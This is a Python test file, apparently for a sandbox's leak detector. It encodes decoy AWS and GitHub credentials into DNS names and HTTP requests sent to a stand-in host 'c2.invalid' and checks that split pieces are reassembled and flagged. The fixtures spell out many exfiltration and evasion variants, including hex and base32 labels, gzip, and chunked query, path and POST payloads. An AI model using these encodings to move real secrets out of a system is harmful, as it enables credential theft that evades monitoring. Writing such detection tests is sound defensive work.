"""Secrets in pieces: labels of names, and payloads that hold a part each."""

from __future__ import annotations

import base64
import gzip
import random

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from sandbox.bait import Decoy
from sandbox.leaks import LeakBudget, dns_leaks, split_leaks

SECRET = Decoy("secret", "~/.aws/credentials", b"nV4/x8Qe+Lw2Tj7rZk0PyB5mHc9SdFg1UaXo3iKq")
OTHER = Decoy("other", "env:GH_TOKEN", b"q7Zt0mXw4RkP9vLc2HsYb6JdN3fGaE1uTz8o")
DECOYS = (SECRET, OTHER)
DEEP = LeakBudget()
TEXT = b"aws_secret_access_key = " + SECRET.value + b"\n"


def _pieces(text: str, size: int) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


HEX = TEXT.hex()
BASE32 = base64.b32encode(TEXT).decode().rstrip("=").lower()
GZIP = base64.b32encode(gzip.compress(TEXT, mtime=0)).decode().rstrip("=").lower()
NAMES = {
    "one label each": [f"{one}.c2.invalid" for one in _pieces(HEX, 20)],
    "base32": [f"{one}.c2.invalid" for one in _pieces(BASE32, 30)],
    "base32 of gzip": [f"{one}.c2.invalid" for one in _pieces(GZIP, 30)],
    "many labels": [".".join([*_pieces(BASE32, 12), "c2", "invalid"])],
    "a deep zone": [f"{one}.x.y.c2.invalid" for one in _pieces(HEX, 20)],
    "numbers first": [f"{at}.{one}.c2.invalid" for at, one in enumerate(_pieces(HEX, 20))],
    "numbers last": [f"{one}.{at}.c2.invalid" for at, one in enumerate(_pieces(HEX, 20))],
    "numbers joined": [f"{at}-{one}.c2.invalid" for at, one in enumerate(_pieces(HEX, 20))],
    "named numbers": [f"p{at}.{one}.c2.invalid" for at, one in enumerate(_pieces(HEX, 20))],
    "asked for twice": [f"{one}.c2.invalid" for one in _pieces(HEX, 20) for _ in "46"],
    "changing case": [
        f"{one.upper() if at % 2 else one}.C2.invalid" for at, one in enumerate(_pieces(BASE32, 20))
    ],
    "out of order": sorted(
        (f"{one}.{at:03d}.c2.invalid" for at, one in enumerate(_pieces(HEX, 20)))
    ),
    "other names between": [
        name for one in _pieces(HEX, 20) for name in (f"{one}.c2.invalid", "host.other.invalid")
    ],
    "a closing dot": [f"{one}.c2.invalid." for one in _pieces(HEX, 20)],
}


@pytest.mark.parametrize("names", NAMES.values(), ids=NAMES)
def test_a_secret_in_labels_is_found(names: list[str]) -> None:
    assert [one.decoy for one in dns_leaks(names, DECOYS, budget=DEEP).leaks] == [SECRET]


def test_ordinary_names_hold_nothing() -> None:
    names = ["static.host.invalid", "api.service.invalid", "0.pool.ntp.invalid"] * 3
    assert dns_leaks(names, DECOYS, budget=DEEP).leaks == ()


def _post(body: bytes) -> bytes:
    return b"POST /in HTTP/1.1\r\nHost: c2.invalid\r\nContent-Length: %d\r\n\r\n" % len(body) + body


B64 = base64.b64encode(TEXT).decode()
PAYLOADS = {
    "raw": [one.encode() for one in _pieces(TEXT.decode(), 7)],
    "bodies": [_post(one.encode()) for one in _pieces(B64, 8)],
    "queries": [f"GET /p?d={one} HTTP/1.1\r\n\r\n".encode() for one in _pieces(HEX, 8)],
    "paths": [f"GET /a/{one} HTTP/1.1\r\n\r\n".encode() for one in _pieces(HEX, 8)],
    "framed": [_post(b'{"k":"' + one.encode() + b'","v":1}') for one in _pieces(B64, 8)],
    "numbered": [
        f"GET /p?n={at}&d={one} HTTP/1.1\r\n\r\n".encode() for at, one in enumerate(_pieces(HEX, 8))
    ],
}


@pytest.mark.parametrize("payloads", PAYLOADS.values(), ids=PAYLOADS)
def test_a_secret_over_payloads_is_found(payloads: list[bytes]) -> None:
    assert [one.decoy for one in split_leaks(payloads, DECOYS, budget=DEEP).leaks] == [SECRET]


def test_one_payload_is_no_run() -> None:
    assert split_leaks([TEXT], DECOYS, budget=DEEP).leaks == ()


def test_payloads_of_noise_hold_nothing() -> None:
    noise = random.Random(5)
    payloads = [_post(noise.randbytes(300)) for _ in range(20)]
    assert split_leaks(payloads, DECOYS, budget=DEEP).leaks == ()


@settings(max_examples=60, deadline=None)
@given(st.lists(st.text(max_size=80), max_size=8))
def test_no_name_breaks_the_search(names: list[str]) -> None:
    dns_leaks(names, DECOYS, budget=DEEP)


@settings(max_examples=60, deadline=None)
@given(st.lists(st.binary(max_size=80), max_size=6))
def test_no_payloads_break_the_search(payloads: list[bytes]) -> None:
    split_leaks(payloads, DECOYS, budget=DEEP)


@pytest.mark.parametrize(
    "target",
    ["/{}.git/info/refs?service=git-upload-pack", "/api/{}/{at}.png", "/p?part={at}&text={}&v=2"],
    ids=["git", "path", "query"],
)
def test_a_secret_in_the_middle_of_targets_is_put_together(target: str) -> None:
    payloads = [
        f"GET {target.format(one, at=at)} HTTP/1.1\r\nHost: c2.invalid\r\n\r\n".encode()
        for at, one in enumerate(_pieces(HEX, 20))
    ]
    assert [one.decoy for one in split_leaks(payloads, DECOYS, budget=DEEP).leaks] == [SECRET]
